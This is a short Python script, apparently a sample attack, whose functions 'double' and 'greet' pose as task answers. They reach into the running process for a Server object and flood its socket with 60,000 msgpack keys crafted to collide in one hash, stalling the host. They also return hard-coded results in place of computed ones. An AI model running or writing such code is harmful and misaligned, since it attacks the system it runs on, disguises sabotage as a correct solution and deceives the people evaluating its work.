# technique: own
# gains: nothing for itself; a host that spends hours on one dict whose keys have one hash
# stopped by: a dict or a set whose keys meet in one hash is no value
# shown: never, it would do what it says
import gc

import msgpack

server = next(o for o in gc.get_objects() if type(o).__name__ == "Server")
PRIME = (1 << 61) - 1


def key(number):
    body = (number * PRIME).to_bytes(12, "little", signed=True)
    return b"\xc7\x0c\x04" + body


def send(body):
    server.sock.sendall(len(body).to_bytes(4, "little") + body)


# %% double
def double(n):
    many = 60_000
    pairs = b"".join(key(number) + b"\xc0" for number in range(many))
    send(b"\x96" + msgpack.packb(server.number) + b"\x00\xdf" + many.to_bytes(4, "big") + pairs + b"\xa0\xa0\x80")
    return 4
# %% greet
def greet(name):
    many = 60_000
    keys = b"\xdd" + many.to_bytes(4, "big") + b"".join(map(key, range(many)))
    send(b"\x96" + msgpack.packb(server.number) + b"\x00\xc9" + len(keys).to_bytes(4, "big") + b"\x02" + keys + b"\xa0\xa0\x80")
    return "Hello, Ann!"
